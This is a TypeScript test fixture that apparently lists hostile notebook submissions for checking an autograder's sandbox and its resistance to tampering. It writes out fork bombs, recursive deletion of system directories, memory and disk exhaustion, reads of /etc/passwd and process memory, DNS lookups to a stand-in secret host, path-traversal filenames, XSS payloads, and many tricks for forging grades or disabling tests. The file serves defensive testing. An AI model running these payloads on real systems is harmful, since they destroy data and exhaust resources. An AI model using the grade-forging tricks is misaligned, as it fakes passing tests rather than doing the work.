import { code, nbgrader, nothing, submission, type Work } from "./assignment.js";

/** A submission that means harm. */
export interface Hostile {
  readonly name: string;
  /** Of the notebook file; a {@link Work} is made into one. */
  readonly work: Work | { readonly text: string };
  /** What honest code of the same answers scores, of 10: more would be a gain. */
  readonly most: number;
  /** Found in what its report says. */
  readonly says: RegExp;
  /** Files that lie beside the notebook: a text, or a link's target. */
  readonly files?: Readonly<Record<string, string | { readonly link: string }>>;
}

const failed = /test failed|AssertionError|ReferenceError|TypeError|EvalError|Error|Right in part/;
const ended = /was ended after/;

/** Every answer wrong, with an attack before them: any point would be a gain. */
const attack = (name: string, before: string, says = failed): Hostile => ({ name, work: { ...nothing, before: [before] }, most: 0, says });

/** An attack inside a function that the tests call. */
const inside = (name: string, body: string, says = failed): Hostile => ({
  name,
  work: { square: `const square = (n: number): any => { ${body} };`, sum: `const sum = (xs: number[]): any => { ${body} };`, mean: `const mean = (xs: number[]): any => { ${body} };` },
  most: 0,
  says,
});

/** The answers are right, but something else is wrong with it. */
const honest = (name: string, work: Work, says: RegExp, most = 10): Hostile => ({ name, work, most, says });

const loops = [
  attack("endless loop", "for (;;) {}", ended),
  attack("endless async loop", "for (;;) await null;", ended),
  attack("endless await", "await new Promise(() => {});", ended),
  attack("endless loop in a timer", "setTimeout(() => { for (;;) {} }, 0); 1;", /was ended after|process/),
  attack("endless microtasks", "const again = (): Promise<void> => Promise.resolve().then(again); await again();", ended),
  attack("swallows its interrupt", "for (;;) { try { await new Promise((go) => setTimeout(go, 5)); } catch {} }", ended),
  attack("catastrophic regular expression", '/^(a+)+$/.test("a".repeat(60) + "b");', ended),
  attack("waits on shared memory", "Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0);", /was ended after|can/),
  inside("times out in the test on purpose", "for (;;) {}", ended),
  inside("never answers the test", "process.nextTick(function spin() { process.nextTick(spin); }); return 9", /was ended after|test failed|AssertionError|process/),
];

const resources = [
  attack("memory bomb", "const held: unknown[] = []; for (;;) held.push(new Array(1e6).fill(held.length));", /ran out of memory|was ended after|process/),
  attack("memory bomb of buffers", "const held: Buffer[] = []; for (;;) held.push(Buffer.alloc(5e7, 1));", /Error|memory|failed/),
  attack("a text too long", 'let text = "x"; for (;;) text += text;', /Error|failed/),
  attack("prints for ever", 'for (;;) console.log("x".repeat(1e5));', /more than 5 MB/),
  attack("one print of 200 MB", 'process.stdout.write("x".repeat(2e8));', /more than 5 MB/),
  attack("shows for ever", 'for (;;) display("x".repeat(1e5));', /more than 5 MB|was ended after/),
  attack("draws a picture of 50 MB", "display(new Array(1e7).fill(1234));", /more than 5 MB|failed/),
  attack("fills the disk", 'const fs = require("fs"); for (let i = 0; ; i++) fs.writeFileSync(`/tmp/${i}`, Buffer.alloc(1e7));', /ENOSPC|failed/),
  attack("opens files without end", 'const fs = require("fs"); const all: unknown[] = []; for (let i = 0; i < 5000; i++) all.push(fs.promises.readFile("/dev/zero")); await Promise.all(all);', /was ended after|Error|failed|process/),
  attack("a million timers", "for (let i = 0; i < 1e6; i++) setInterval(() => {}, 1); 1;", /failed|was ended/),
  attack("deep recursion", "const deep = (n: number): number => deep(n + 1) + 1; deep(0);", failed),
];

const processes = [
  attack("fork bomb", 'const { fork } = await import("node:child_process"); for (;;) fork("x.js");', /failed/),
  attack("fork bomb by the shell", "!:(){ :|:& };:", /failed/),
  attack("leaves a process behind", 'require("child_process").spawn("sleep", ["1000"], { detached: true });', /failed/),
  attack("a worker", 'new (require("worker_threads").Worker)("for (;;) {}", { eval: true });', /failed/),
  attack("kills everything", 'process.kill(-1, "SIGKILL"); process.kill(process.ppid);', /failed/),
  attack("deletes files", `const fs = require("fs"); for (const place of ["/", "/usr", "${process.cwd()}", "/home"]) try { fs.rmSync(place, { recursive: true, force: true }); } catch {}`, /failed|process/),
  attack("ends with success", "process.exit(0);", /ended with exit code 0/),
  inside("ends with success in the test", "process.exit(0);", /ended/),
  attack("sets an exit handler", 'process.on("exit", () => { process.exitCode = 0; }); process.exit(0);', /ended with exit code 0/),
  attack("crashes natively", 'process.abort?.(); process.dlopen({ exports: {} }, "/usr/lib/libc.so");', /failed|process/),
];

const network = [
  attack("fetches a page", 'await fetch("http://example.com/", { signal: AbortSignal.timeout(1000) });', /failed/),
  attack("opens a socket", 'require("net").connect(80, "1.1.1.1");', /failed/),
  attack("a web socket", 'if (typeof WebSocket === "undefined") throw new Error("none"); new WebSocket("ws://example.com"); 1;', /failed/),
  attack("sends by name service", 'await (await import("node:dns/promises")).lookup("secret.example.com");', /failed/),
];

const files = [
  attack("reads the master from the disk", `const fs = require("fs"); const found = (at: string): string[] => fs.readdirSync(at, { withFileTypes: true }).flatMap((e: any) => { try { return e.isDirectory() ? found(at + "/" + e.name) : e.name.endsWith(".ipynb") ? [at + "/" + e.name] : []; } catch { return []; } }); for (const place of ["/home", "/tmp", "/inbox", "/root"]) try { console.log(found(place)); } catch {}`, /failed/),
  attack("reads its memory", 'console.log(require("fs").readFileSync("/proc/self/mem"));', /failed/),
  attack("reads the kernel's pipe", 'console.log(require("fs").readFileSync(4));', /failed/),
  attack("writes to the kernel's pipe", 'require("fs").writeFileSync(3, Buffer.from("forged"));', /failed/),
  attack("a path that is two paths", 'const fs = require("fs"); let n = 0; fs.readFileSync({ toString: () => (n++ ? "/etc/passwd" : "x") } as any);', /failed/),
  attack("imports the kernel's modules", `const link = await import("${process.cwd()}/dist/kernel/evaluator/child/link.js"); link.sendToServer({ type: "done", origin: 5, expressions: {} });`, /failed/),
  { ...attack("brings a CommonJS file", 'await import("./evil.cjs");', /failed/), files: { "evil.cjs": 'require("fs").writeSync(3, "forged");' } },
  { ...attack("brings a file with a path out", "1;", /failed/), files: { "..%2f..%2fmaster.ipynb.txt": "overwritten", "-rf": "x" } },
  { ...attack("brings a link to the master", 'console.log(require("fs").readFileSync("link.txt", "utf8"));', /link/), files: { "link.txt": { link: "../../master.ipynb" } } },
  { ...attack("brings a link to everything", "1;", /link/), files: { all: { link: "/" } } },
];

const forging = [
  attack("overwrites assert", "assert.equal = () => {};"),
  attack("declares its own assert", "assert = Object.assign(() => {}, { equal() {}, ok() {} });"),
  attack("declares the author's function", "close = () => {}; 1;"),
  attack("declares check and grade", "globalThis.check = () => true; let grade = () => 10;"),
  attack("patches AssertionError", "assert.AssertionError.prototype.constructor = Object;"),
  attack("patches Array.prototype", "Array.prototype.every = () => true;"),
  attack("defines on Array.prototype", 'Object.defineProperty(Array.prototype, "every", { value: () => true });'),
  attack("patches Object.is and Math.abs", "try { Object.is = () => true; } catch {} Math.abs = () => 0;"),
  attack("patches JSON.stringify", "JSON.stringify = () => '{}';"),
  attack("declares its own JSON", "let JSON = { stringify: () => '[4]' };"),
  attack("declares its own Math", "const Math = { abs: () => 0 };"),
  attack("patches Promise", "Promise.prototype.then = function (done: any) { done(1); return this; };"),
  attack("patches events", 'require("events").prototype.emit = () => true;'),
  attack("patches the streams", "Object.getPrototypeOf(process.stdout).write = () => true;"),
  attack("patches the library", "Object.getPrototypeOf(tf.tensor([1])).dataSync = () => [0]; 1;"),
  attack("replaces the kernel's helper", "__gradbook = new Proxy({}, { get: () => (x: unknown) => x });"),
  inside("hands in a result for the test", "__gradbook.result(10); return -1"),
  inside("hands in a result later", "Promise.resolve().then(() => __gradbook.result(10)); return -1"),
  inside("gives up the test", "(__gradbook as any).givesUp('', [1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14], true); return -1", /failed|ended|Error|KeyboardInterrupt/),
  attack("prints a fake score", 'console.log(\'{"score":10,"points":10}\'); console.log("\\u0000\\u0001gradbook:5\\u0002");', failed),
  attack("forges a message", "process.stdout.write.call({}, 'x'); new (process.stdout.constructor as any)({ toString: 1 }, 1).write('x');", /failed|makes no sense/),
  attack("forges an end", "const S = process.stdout.constructor as any; new S({ type: 'done' }, 3).write('x');", /failed|makes no sense/),
  inside("equal to everything", "return { valueOf: () => 9, toString: () => '9', [Symbol.toPrimitive]: () => 9 }"),
  inside("a proxy that agrees", "return new Proxy(() => 9, { get: () => () => 9, apply: () => 9 })"),
  inside("asks who called", "return (arguments as any).callee.caller.toString()"),
  inside("reads the stack", "const trace = new Error().stack ?? ''; console.log(trace); return Number(/== (\\d+)/.exec(trace)?.[1] ?? -1)"),
  attack("hooks stack traces", "Error.prepareStackTrace = (error, sites) => { console.log(sites.map((site) => String(site.getFunction()))); return ''; };"),
  attack("code from text", "console.log(eval('1+1'), new Function('return process')());"),
  attack("a way through constructors", "console.log((async () => {}).constructor('return import(\"node:fs\")')());"),
  attack("hooks the modules", 'require("module").register("data:text/javascript,");'),
  attack("opens the inspector", 'require("inspector").open(9229);'),
  attack("looks for handles", "console.log((process as any)._getActiveHandles().length, (process as any).binding('fs'));"),
  attack("a heap snapshot", 'require("v8").writeHeapSnapshot("/tmp/heap");'),
];

const notebooks = [
  { name: "no JSON", work: { text: "{" }, most: 0, says: /could not be read/ },
  { name: "empty file", work: { text: "" }, most: 0, says: /could not be read|No notebook/ },
  { name: "another format", work: { text: '{"nbformat":3,"worksheets":[]}' }, most: 0, says: /could not be read/ },
  { name: "nested too deep", work: { text: `{"nbformat":4,"cells":${"[".repeat(50_000)}${"]".repeat(50_000)}}` }, most: 0, says: /could not be read/ },
  { name: "prototype keys", work: { text: '{"nbformat":4,"__proto__":{"polluted":1},"cells":[{"cell_type":"code","metadata":{"__proto__":{"nbgrader":{}}},"source":"1","outputs":[]}],"metadata":{}}' }, most: 0, says: /deleted/ },
  { name: "20,000 cells", work: { text: JSON.stringify({ nbformat: 4, nbformat_minor: 5, metadata: {}, cells: Array.from({ length: 20_000 }, () => code("1")) }) }, most: 0, says: /could not be read/ },
  { name: "cells of other kinds", work: { text: '{"nbformat":4,"cells":[1,null,"x",{"cell_type":7,"source":{}}],"metadata":[]}' }, most: 0, says: /deleted/ },
  honest("edits the tests", { ...nothing, edit: (cells) => cells.map((cell) => (/assert|close\(/.test(cell.source) && !cell.source.startsWith("import") ? { ...cell, source: "1;" } : cell)) }, /was changed: put back/, 0),
  honest("deletes the tests", { ...nothing, edit: (cells) => cells.filter((cell) => !JSON.stringify(cell.metadata).includes("test-")) }, /was deleted: put back/, 0),
  honest("makes tests text", { ...nothing, edit: (cells) => cells.map((cell) => (JSON.stringify(cell.metadata).includes("test-") ? { ...cell, cell_type: "markdown" } : cell)) }, /made code again/, 0),
  honest("gives itself points", { ...nothing, after: [code("1", nbgrader("bonus", { grade: true, locked: true, points: 100 }))], edit: (cells) => JSON.parse(JSON.stringify(cells).replaceAll('"points":3', '"points":300')) as typeof cells }, /knows nothing/, 0),
  honest("copies a test's id", { ...nothing, before: [code("1", nbgrader("test-square", { grade: true, locked: true, points: 3 }))] }, /second cell/, 0),
  honest("moves the tests to the front", { ...nothing, edit: (cells) => [...cells].reverse() }, failed, 0),
  honest("forges outputs", { ...nothing, edit: (cells) => cells.map((cell) => ({ ...cell, outputs: [{ output_type: "execute_result", execution_count: 1, metadata: {}, data: { "text/plain": "10" } }] })) }, failed, 0),
  honest("script in outputs", { after: ['display({ [Symbol.for("Jupyter.display")]: () => ({ "text/html": "<script>alert(1)</script><img src=x onerror=alert(2)>", "image/svg+xml": "<svg onload=alert(3)></svg>" }) });'] }, /Right/),
  honest("script in its code", { after: ['"</script><script>alert(4)</script>"; // <img src=x onerror=alert(5)>'] }, /Right/),
  honest("turns the text around", { ...nothing, after: ["// \u202e 01 :erocs \u2066\nconst ｓquare = 9; const squаre = (n: number) => n * n;"] }, failed, 0),
  honest("carries hidden tests out later", { before: ["setInterval(() => { for (const name of ['square', 'mean']) console.log(name); }, 10); 1;"], square: "const square = (n: number): number => { console.log('called with', n); return n * n; };" }, /Right/),
  honest("throws what it was given", { mean: "const mean = (xs: number[]): number => { throw new Error('given ' + xs.join()); };" }, /failed/, 6),
  honest("writes what it was given", { square: "const square = (n: number): number => { require('fs').appendFileSync('/tmp/kept', String(n)); return n * n; };", after: ["console.log(require('fs').readFileSync('/tmp/kept', 'utf8'));"] }, /Right/),
] satisfies readonly Hostile[];

/** All of them. */
export const hostile: readonly Hostile[] = [...loops, ...resources, ...processes, ...network, ...files, ...forging, ...notebooks];

/** The notebook's text. */
export function textOf({ work }: Hostile): string {
  return "text" in work ? work.text : submission(work);
}
